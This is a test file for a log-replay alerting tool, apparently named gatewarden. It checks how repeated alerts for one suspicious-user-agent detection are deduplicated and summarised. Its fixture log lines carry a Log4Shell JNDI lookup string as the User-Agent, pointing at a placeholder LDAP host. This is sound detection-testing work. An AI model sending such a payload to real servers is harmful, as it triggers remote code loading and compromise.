import { mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { formatAlertTable, newestPerAlertId } from "../../shared/sinks/alertTable.js";
import { alertFixture } from "../support/alertFixture.js";
import { gatewarden } from "./runGatewarden.js";

const JNDI = "${jndi:ldap://198.51.100.9/x}";

/** A Log4Shell User-Agent at 10:01, alerted early at 10:05, and again at 10:12 in the same window. */
function attackLines(): string {
  return ["10:01:00", "10:12:00"]
    .map(
      (clock) =>
        `198.51.100.9 - - [17/May/2015:${clock} +0000] "GET /a HTTP/1.1" 200 5 "-" "${JNDI}"\n`,
    )
    .join("");
}

interface AlertRow {
  AlertId: string;
  TimeGenerated: string;
  ObservedValue: number;
}

describe("one alert per AlertId in what gatewarden shows", { timeout: 120_000 }, () => {
  it("lists an indicator alert raised early and again at its window's close once in --table, as its newest row, while --out keeps both rows", async () => {
    const folder = await mkdtemp(join(tmpdir(), "gatewarden-table-"));
    const input = join(folder, "gateway.log");
    const out = join(await mkdtemp(join(tmpdir(), "gatewarden-table-out-")), "alerts.ndjson");
    await writeFile(input, attackLines());

    const result = await gatewarden("replay", input, "--table", "--out", out, "--quiet");
    const rows = (await readFile(out, "utf8"))
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as AlertRow);

    expect(result.code).toBe(0);
    expect(rows.map((row) => [row.TimeGenerated, row.ObservedValue])).toEqual([
      ["2015-05-17T10:05:00.000Z", 1],
      ["2015-05-17T10:20:00.000Z", 2],
    ]);
    expect(new Set(rows.map((row) => row.AlertId)).size).toBe(1);
    expect(result.stdout.match(/SuspiciousUserAgent/g)).toHaveLength(1);
    expect(result.stdout).toContain("198.51.100.9 sent 2 request(s) to GET /a in the window");
    expect(result.stdout).not.toContain("sent 1 request(s)");
  });

  it("counts that alert once in the summary, with its latency from the early raise", async () => {
    const folder = await mkdtemp(join(tmpdir(), "gatewarden-summary-"));
    const input = join(folder, "gateway.log");
    await writeFile(input, attackLines());

    const result = await gatewarden("replay", input, "--out", join(folder, "alerts.ndjson"));

    expect(result.code).toBe(0);
    expect(result.stderr).toContain(
      "  alerts            1\n    API_AccessFromSuspiciousUserAgent    1\n  indicator latency median 240 s, max 240 s of event time (1 alerts)",
    );
  });
});

describe("newestPerAlertId", () => {
  it("keeps the row raised last for each AlertId, and the later given when two were raised at once", () => {
    const early = alertFixture({ raisedAtMs: 1_000, observedValue: 1 });
    const close = alertFixture({ raisedAtMs: 2_000, observedValue: 2 });
    const resent = alertFixture({ raisedAtMs: 2_000, observedValue: 3 });
    const other = alertFixture({ clientIp: "203.0.113.8", raisedAtMs: 500 });

    const newest = newestPerAlertId([close, other, early, resent]);

    expect(newest.map((alert) => [alert.clientIp, alert.observedValue])).toEqual([
      ["203.0.113.7", 3],
      ["203.0.113.8", 412],
    ]);
    expect(formatAlertTable([early, close]).match(/API_SpikeInAPITraffic/g)).toHaveLength(1);
  });
});
